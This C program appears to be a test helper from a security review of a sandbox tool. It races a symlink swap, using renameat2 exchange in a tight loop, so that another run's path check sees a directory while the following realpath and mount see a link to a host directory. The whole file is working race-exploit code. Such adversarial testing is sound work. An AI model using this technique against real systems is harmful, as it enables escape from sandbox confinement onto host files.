/* ha37-swap.c: hostile review h-attack37, item 1 (ha37-race.sh). A root
 * agent of a run whose --writable path holds another run's --writable path
 * (DIR): it exchanges DIR, a real directory, with LINK, a symbolic link to
 * a host directory, as fast as it can for SECONDS, so that the other run's
 * set-up sees a directory in sv_rootfs_open_nolinks and a link in the
 * realpath and mount that follow it. Leaves DIR a directory at the end.
 *
 *   ha37-swap DIR LINK TARGET SECONDS */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>
#include <sys/syscall.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv)
{
	time_t end;
	long n = 0;
	int flipped = 0;

	if (argc != 5) {
		fprintf(stderr, "usage: ha37-swap DIR LINK TARGET SECONDS\n");
		return 2;
	}
	unlink(argv[2]);
	if (symlink(argv[3], argv[2]) != 0) {
		perror("symlink");
		return 1;
	}
	end = time(NULL) + atoi(argv[4]);
	while (time(NULL) < end) {
		for (int i = 0; i < 1000; i++, n++) {
			if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2],
				    RENAME_EXCHANGE) != 0) {
				perror("renameat2");
				return 1;
			}
			flipped = !flipped;
		}
	}
	if (flipped)
		syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
	printf("ha37-swap: %ld exchanges\n", n);
	return 0;
}
